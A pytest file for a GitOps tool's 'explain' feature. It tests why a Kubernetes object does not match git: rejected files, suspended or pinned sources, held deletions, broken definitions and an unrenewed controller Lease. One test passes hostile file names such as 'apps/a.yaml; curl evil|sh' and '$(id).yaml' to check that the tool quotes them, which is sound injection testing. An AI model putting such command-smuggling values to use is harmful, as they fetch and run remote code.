"""Why an object is not what git says, from its source, its definition and the Lease."""

from datetime import UTC, datetime
from typing import Any

import pytest

from kro_gitops.inspect.explain.causes import (
    Cause,
    controller_causes,
    definition_causes,
    deletion_causes,
    failures_of,
    held_back_causes,
    named_failures,
    source_causes,
)
from kro_gitops.inspect.views.sources import failures
from kro_gitops.metadata import REVISION, SOURCE, SOURCE_PATH
from kube_objects.refs import KubeObject, ObjectRef

NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
FAILURE = {
    "object": "WebApp shop/front",
    "file": "apps/front.yaml",
    "line": 7,
    "column": 3,
    "code": "invalid",
    "message": "spec.replicas: must be a number",
}


def instance(name: str = "front", file: str = "apps/front.yaml") -> KubeObject:
    annotations = {SOURCE: "gitops/shop", SOURCE_PATH: f"{file}:1", REVISION: "1a" * 20}
    metadata = {"name": name, "namespace": "shop", "generation": 1, "annotations": annotations}
    metadata["creationTimestamp"] = "2026-03-01T08:00:00Z"
    return {"apiVersion": "kro.run/v1alpha1", "kind": "WebApp", "metadata": metadata}


def condition(type_: str, status: str = "True", message: str = "") -> dict[str, Any]:
    return {"type": type_, "status": status, "reason": type_, "message": message}


def source(
    *failed: dict[str, Any], spec: dict[str, Any] | None = None, **status: Any
) -> KubeObject:
    metadata = {"name": "shop", "namespace": "gitops", "generation": 1}
    whole = {"observedGeneration": 1, "failures": list(failed), **status}
    kind = {"apiVersion": "gitops.kro.run/v1alpha1", "kind": "GitSource"}
    return {**kind, "metadata": metadata, "spec": spec or {}, "status": whole}


def causes(found: KubeObject | None, obj: KubeObject | None = None) -> list[Cause]:
    return list(source_causes(obj or instance(), found))


def test_an_object_that_is_what_git_says_has_no_cause() -> None:
    other = {**FAILURE, "object": "WebApp shop/back", "file": "apps/back.yaml"}
    assert causes(source()) == []
    assert causes(source(other)) == []
    assert causes({}) == []  # the source may not be read


def test_an_object_without_a_source_has_no_cause() -> None:
    bare = {**instance(), "metadata": {"name": "front", "namespace": "shop"}}
    assert causes(source(FAILURE), bare) == []


def test_a_rejected_version_is_named_with_its_place_and_the_next_commands() -> None:
    assert causes(source(FAILURE)) == [
        Cause(
            "its version in git was rejected by source gitops/shop",
            ("apps/front.yaml:7:3: spec.replicas: must be a number",),
            (
                "correct apps/front.yaml and commit; check it: kro-gitops validate apps/front.yaml",
                "see the whole source: kro-gitops explain source/shop -n gitops",
            ),
        )
    ]


@pytest.mark.parametrize(
    ("file", "argument"),
    [
        ("apps/a.yaml; curl evil|sh", "'apps/a.yaml; curl evil|sh'"),
        ("$(id).yaml", "'$(id).yaml'"),
        ("--strict", "./--strict"),
    ],
)
def test_a_hostile_file_name_is_quoted_in_the_command_to_copy(file: str, argument: str) -> None:
    (cause,) = causes(source({**FAILURE, "file": file}))
    assert cause.steps[0].endswith(f"kro-gitops validate {argument}")


@pytest.mark.parametrize(
    "subject", ["WebApp shop/front", "WebApp.kro.run shop/front", "WebApp/shop/front", ""]
)
def test_a_failure_names_the_object_or_only_its_file(subject: str) -> None:
    assert causes(source({**FAILURE, "object": subject}))


@pytest.mark.parametrize(
    "more",
    [
        {"object": "WebApp other/front"},
        {"object": "Website shop/front"},
        {"object": "WebApp shop/front-2"},
        {"object": "", "file": "apps/front.yaml.bak"},
        {"object": "", "file": ""},
    ],
)
def test_failures_of_others_are_not_its_own(more: dict[str, str]) -> None:
    listed = failures(source({**FAILURE, **more}))
    assert failures_of(ObjectRef.of(instance()), "apps/front.yaml:1", listed) == []


def test_omitted_failures_may_be_its_own() -> None:
    (cause,) = causes(source(failuresOmitted=4))
    assert cause.text == "its version in git may have been rejected by source gitops/shop"
    assert cause.lines[0].startswith("the status of the source omits 4 failures")


def test_a_source_that_does_not_exist() -> None:
    (cause,) = causes(None)
    assert cause.text == "its source gitops/shop does not exist: nothing follows git"


@pytest.mark.parametrize(
    ("found", "text", "step"),
    [
        (
            source(spec={"suspend": True}),
            "its source gitops/shop is suspended",
            "resume it: kro-gitops resume gitops/shop --wait",
        ),
        (
            source(spec={"pin": {"commit": "1a" * 20, "reason": "checkout fails"}}),
            "its source gitops/shop is pinned: newer commits are not applied",
            "follow git again: kro-gitops rollback gitops/shop --undo",
        ),
        (
            source(conditions=[condition("FetchFailed", message="no route to host")]),
            "its source gitops/shop: git cannot be read, so what runs may be outdated",
            "check spec.url, spec.ref and the Secret; what was applied before stays",
        ),
        (
            source(conditions=[condition("DependencyNotReady")]),
            "its source gitops/shop waits for another source",
            "look at the source that it depends on: `kro-gitops get sources -A`",
        ),
        (
            source(observedGeneration=0),
            "its source gitops/shop: no controller has processed a change of its spec yet",
            "see that kro-gitops runs with --sources, and its log",
        ),
    ],
)
def test_what_holds_a_source_back(found: KubeObject, text: str, step: str) -> None:
    (cause,) = causes(found)
    assert cause.text == text
    assert cause.steps[0] == step


def test_a_pin_says_who_why_and_until_when() -> None:
    pin = {"commit": "1a" * 20, "reason": "checkout fails", "by": "Ann", "expires": "2026-03-02"}
    (cause,) = causes(source(spec={"pin": pin}))
    assert cause.lines == ("held at 1a1a1a1a1a1a: checkout fails (by Ann) (until 2026-03-02)",)


def test_a_pin_of_one_object_does_not_hold_back_the_others() -> None:
    held = {**condition("Pinned", message="WebApp shop/back is held"), "reason": "ObjectsPinned"}
    assert causes(source(conditions=[held])) == []
    assert causes(source(conditions=[condition("Pinned", message="held at 1a1a")]))


def test_deletions_that_a_limit_holds_are_a_cause() -> None:
    held = condition("PruneBlocked", message="13 Services would be deleted")
    (cause,) = deletion_causes({**instance(), "status": {"conditions": [held]}})
    assert cause.lines == ("13 Services would be deleted",)
    (step,) = cause.steps
    assert step.endswith("approve the deletions: kro-gitops approve webapp/front -n shop")
    assert not list(deletion_causes(instance()))
    good = definition({**condition("Ready"), "reason": "Ready"}, held)
    assert any("a limit holds their deletion" in each.text for each in definition_causes(good, {}))


def test_what_waits_for_a_definition_is_held_back_with_its_kind() -> None:
    text = "2 WebApp objects of this revision held back: definition webapp was not applied"
    found = source({"code": "held-back", "message": text})
    (cause,) = held_back_causes(instance(), found)
    assert cause.lines == (text,)
    assert not list(held_back_causes({**instance(), "kind": "Shop"}, found))
    rights = source({"code": "missing-rights", "message": "this role would allow it"})
    assert not list(held_back_causes(instance(), rights))
    failed = source({"code": "bridge-refused", "message": "application argocd/shop: it syncs"})
    assert list(held_back_causes(instance(), failed))


def test_an_object_that_was_never_applied_is_found_by_kind_and_name() -> None:
    found = source(FAILURE, {**FAILURE, "object": "ResourceGraphDefinition webapp"})
    for word in ("webapp", "WebApp", "webapps", "webapps.kro.run"):
        assert len(named_failures(word, "front", "shop", found)) == 1
    assert len(named_failures("rgd", "webapp", "shop", found)) == 1
    assert not named_failures("webapp", "front", "other", found)
    assert not named_failures("shop", "front", "shop", found)


def definition(*conditions: dict[str, Any], **status: Any) -> KubeObject:
    annotations = {SOURCE: "gitops/shop", SOURCE_PATH: "rgds/webapp.yaml:1", REVISION: "1a" * 20}
    metadata = {"name": "webapp", "generation": 1, "annotations": annotations}
    kind = {"apiVersion": "kro.run/v1alpha1", "kind": "ResourceGraphDefinition"}
    dated = [{**each, "observedGeneration": 1} for each in conditions]
    return {**kind, "metadata": metadata, "status": {"conditions": dated, **status}}


def test_a_definition_can_be_missing_broken_or_older_than_git() -> None:
    good = definition(condition("Ready"))
    assert list(definition_causes(good, source())) == []
    (missing,) = definition_causes(None, None)
    assert missing.text.startswith("no definition defines its kind")
    bad = definition(condition("GraphAccepted", "False", "id is bad\nmore"), lastIssuedRevision=3)
    (broken,) = definition_causes(bad, source())
    assert broken.text == "its definition 'webapp' is broken, so it follows revision 3"
    assert broken.lines == (
        "rgds/webapp.yaml:1 of gitops/shop at 1a1a1a1a1a1a",
        "id is bad",
        "more",
    )
    rejected = {**FAILURE, "object": "ResourceGraphDefinition webapp", "file": "rgds/webapp.yaml"}
    (older,) = definition_causes(good, source(rejected))
    assert older.text == (
        "its definition 'webapp' is not what git has: "
        "its version in git was rejected by source gitops/shop"
    )


def lease(renewed: str, holder: str = "pod-1") -> KubeObject:
    metadata = {"name": "controller.kro.run", "namespace": "kro-gitops-system"}
    spec = {"holderIdentity": holder, "leaseDurationSeconds": 15, "renewTime": renewed}
    return {
        "apiVersion": "coordination.k8s.io/v1",
        "kind": "Lease",
        "metadata": metadata,
        "spec": spec,
    }


def test_a_lease_that_nobody_renews_means_that_no_controller_runs() -> None:
    old, new = lease("2026-03-01T09:00:00.000000Z"), lease("2026-03-01T11:59:30.000000Z")
    (cause,) = controller_causes(instance(), [old], NOW)
    assert cause.text == "no controller seems to run"
    assert cause.lines == (
        "Lease kro-gitops-system/controller.kro.run was last renewed 3h ago by pod-1",
    )
    assert cause.steps == ("see its pods: kubectl get pods -n kro-gitops-system",)
    assert not list(controller_causes(instance(), [old, new], NOW))
    assert not list(controller_causes(instance(), [], NOW))


def test_a_controller_without_a_lease_shows_in_what_changed() -> None:
    old = lease("2026-03-01T09:00:00.000000Z")
    changed = {**condition("Ready"), "lastTransitionTime": "2026-03-01T11:00:00Z"}
    alive = {**instance(), "status": {"conditions": [changed]}}
    assert not list(controller_causes(alive, [old], NOW))
